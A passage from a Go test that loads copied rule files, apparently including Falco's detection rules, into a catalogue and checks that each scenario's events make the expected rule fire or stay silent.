		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, dst), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	rs := loadCatalogue(t, dir)
	for _, sc := range scenarios() {
		n := 0
		for _, a := range run(rs, sc.events) {
			if a.Rule.Name == sc.rule {
				n++
			}
		}
		if (n > 0) != sc.fire {
			t.Errorf("with Falco's rules loaded, %q: fired=%v, want %v", sc.name, n > 0, sc.fire)
		}
	}
}
